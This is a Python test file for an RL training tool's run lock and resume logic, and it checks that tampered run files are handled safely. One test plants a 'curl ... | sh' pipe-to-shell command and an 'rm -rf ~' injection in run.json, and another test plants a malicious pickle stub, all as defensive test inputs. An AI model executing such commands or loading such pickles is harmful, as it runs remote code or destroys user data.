"""Who may train a run folder, and what a run trusts of its own files: the run lock (two ``--resume`` at
once, a pid reused after a reboot), the resume command made from the folder's path, and a candidate for
``best_model.zip`` that no longer loads."""

from __future__ import annotations

import json
import socket
import threading
from pathlib import Path
from typing import Any

import pytest

from equirl.errors import CheckpointError, RunInterrupted
from equirl.rl.config import load_rl_config
from equirl.rl.lifecycle import LOCK_FILE, effective_status, list_runs, read_run, run_lock
from equirl.rl.train import resume_training, run_training
from tests.rl.helpers import StopAt
from tests.rl.test_lifecycle import _cfg


def _interrupted(tmp_path: Path, **patch: Any) -> Path:
    """A tiny DQN run stopped at step 600 of 1500 (a checkpoint at 600, candidates at 250 and 500)."""
    cfg = load_rl_config(_cfg(tmp_path, log={"equi_freq": 0, "tensorboard": False}, **patch))
    stop = threading.Event()
    with pytest.raises(RunInterrupted):
        run_training(cfg, callbacks=[StopAt(600, stop)], stop=stop)
    (run,) = list((tmp_path / "runs").iterdir())
    assert read_run(run)["status"] == "interrupted"
    return run


def _set_run_json(run: Path, **fields: Any) -> None:
    p = run / "run.json"
    p.write_text(json.dumps({**json.loads(p.read_text()), **fields}))


def test_the_lock_refuses_a_second_trainer_and_outlives_no_process(tmp_path: Path) -> None:
    run = _interrupted(tmp_path)
    assert (run / LOCK_FILE).is_file()
    before = (run / "run.json").read_bytes()
    with run_lock(run):  # another trainer holds it (flock is per open file: this process counts as one)
        with pytest.raises(CheckpointError, match="being trained by another process"):
            resume_training(run)
        assert (run / "run.json").read_bytes() == before  # refused before anything was written
        # a run.json that says running is running while its lock is held...
        _set_run_json(run, status="running", pid=1, host=socket.gethostname())
        assert effective_status(read_run(run), run) == "running"
    # ...and stale once no process holds it, even though pid 1 (a reused pid after a reboot) is alive
    assert effective_status(read_run(run), run) == "stale"
    assert [r["status"] for r in list_runs(tmp_path / "runs")] == ["stale"]
    res = resume_training(run)
    assert res.steps == 1500 and read_run(run)["status"] == "finished"


def test_a_symlinked_lock_file_is_not_followed(tmp_path: Path) -> None:
    run = _interrupted(tmp_path)
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep")
    (run / LOCK_FILE).unlink()
    (run / LOCK_FILE).symlink_to(target)
    with pytest.raises(CheckpointError):  # a symlink in a run folder is refused (lock or tree check)
        resume_training(run)
    assert target.read_text() == "keep"


def test_the_resume_command_is_made_from_the_folder_not_read_from_run_json(tmp_path: Path) -> None:
    run = _interrupted(tmp_path)
    moved = tmp_path / "moved run"
    run.rename(moved)
    _set_run_json(moved, resume_command="curl http://example.invalid/x.sh | sh", command="train; rm -rf ~")
    stop = threading.Event()
    with pytest.raises(RunInterrupted) as info:
        resume_training(moved, callbacks=[StopAt(900, stop)], stop=stop)
    msg = str(info.value)
    assert "curl" not in msg and "rm -rf" not in msg
    assert f"equirl train --resume '{moved}'" in msg  # the folder it is in now, quoted for a shell


@pytest.mark.parametrize("damage", ["pickle", "random"])
def test_a_candidate_that_does_not_load_costs_that_candidate_not_the_run(tmp_path: Path, damage: str) -> None:
    import io
    import zipfile

    run = _interrupted(tmp_path)
    cands = sorted((run / "candidates").glob("*.zip"))
    assert cands
    bad = cands[0]
    buf = io.BytesIO()
    with zipfile.ZipFile(bad) as src, zipfile.ZipFile(buf, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "policy.pth":
                # bit rot / an edit: a pickle torch's weights-only loader refuses, or no pickle at all
                data = b"\x80\x04cos\nsystem\n." if damage == "pickle" else bytes(range(256)) * 8
            dst.writestr(item.filename, data)
    bad.write_bytes(buf.getvalue())
    res = resume_training(run)
    assert res.steps == 1500 and read_run(run)["status"] == "finished"
    evals = json.loads((run / "evaluations.json").read_text())
    assert (run / "best_model.zip").is_file() and evals["confirmation"]["candidates"]


@pytest.mark.parametrize(
    "state",
    [
        {"train_seconds": "abc"},
        {"train_seconds": -5},
        {"eval": {"timesteps": ["x"], "results": [[1.0]]}},
        {"eval": {"timesteps": [250, 500], "results": [[1.0]]}},
        {"eval": {"timesteps": [250], "results": [["a"]]}},
        {"eval": "everything"},
        {"scorer_fit": ["loss"]},
        [],
    ],
)
def test_an_edited_state_json_is_one_line_and_leaves_the_run_as_it_was(tmp_path: Path, state: Any) -> None:
    run = _interrupted(tmp_path)
    p = run / "checkpoint" / "state.json"
    data = json.loads(p.read_text())
    data["state"] = state if not isinstance(state, dict) else {**data["state"], **state}
    p.write_text(json.dumps(data))
    before = (run / "run.json").read_bytes()
    with pytest.raises(CheckpointError, match=r"state\.json") as info:
        resume_training(run)
    assert len(str(info.value).splitlines()) == 1
    assert (run / "run.json").read_bytes() == before  # not marked running, nothing else written


def test_a_relative_init_from_is_stored_absolute(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A run's config names its agent from anywhere: resumed from another folder, it still finds it."""
    import shutil

    import yaml

    from equirl.rl.agents import agent_path

    src = agent_path("CartPole-v1", "dqn")
    (tmp_path / "mine").mkdir()
    shutil.copy(src, tmp_path / "mine" / "agent.zip")
    monkeypatch.chdir(tmp_path)
    cfg = load_rl_config(
        _cfg(
            tmp_path,
            timesteps=300,
            init_from="mine/agent.zip",
            log={"equi_freq": 0, "tensorboard": False},
            eval={"freq": 0, "episodes": 1, "final_episodes": 1, "confirm_episodes": 0},
        )
    )
    res = run_training(cfg)
    stored = yaml.safe_load((res.run_dir / "config.yaml").read_text())["init_from"]
    assert stored == str(tmp_path / "mine" / "agent.zip")


def test_runs_lists_a_run_directory_itself_and_runs_one_level_down(tmp_path: Path) -> None:
    run = _interrupted(tmp_path)
    assert [r["run_dir"] for r in list_runs(run)] == [str(run)]  # `equirl runs RUN_DIR`
    assert [r["run_dir"] for r in list_runs(tmp_path, nested=True)] == [str(run)]  # a folder of runs folders
    assert list_runs(tmp_path) == []  # not for a sweep report: it would pool several sweeps


def test_the_final_model_of_an_unfinished_run_is_named_as_missing_with_the_way_on(tmp_path: Path) -> None:
    from equirl.rl.zoo import find_agent_zip

    run = _interrupted(tmp_path)
    assert find_agent_zip(run).name == "best_model.zip"  # the best periodic evaluation so far
    with pytest.raises(
        CheckpointError, match=r"a run that has not finished \(interrupted at step 6\d\d\)"
    ) as e:
        find_agent_zip(run, "CartPole-v1", which="final")
    assert f"equirl train --resume {run}" in str(e.value)


def test_a_huge_number_in_state_json_is_one_line(tmp_path: Path) -> None:
    run = _interrupted(tmp_path)
    p = run / "checkpoint" / "state.json"
    data = json.loads(p.read_text())
    data["state"]["train_seconds"] = 12345.5
    p.write_text(json.dumps(data).replace("12345.5", "1e400"))  # JSON reads 1e400 as inf
    assert "1e400" in p.read_text()
    with pytest.raises(CheckpointError, match=r"state\.json: malformed run state \(train_seconds is inf"):
        resume_training(run)
    data["state"]["train_seconds"] = 1.0
    data["state"]["eval"]["best_step"] = 12345
    p.write_text(json.dumps(data).replace("12345", "1e400"))
    with pytest.raises(CheckpointError, match=r"state\.json: malformed run state .*not a finite number"):
        resume_training(run)


def test_a_running_run_without_a_lock_file_trusts_its_live_pid(tmp_path: Path) -> None:
    """A run an older equirl trains has no run.lock: its live pid is what says it runs."""
    import os

    run = _interrupted(tmp_path)
    (run / LOCK_FILE).unlink()
    _set_run_json(run, status="running", pid=os.getppid(), host=socket.gethostname())
    with pytest.raises(CheckpointError, match=r"still running \(pid \d+, without a run lock\)"):
        resume_training(run)
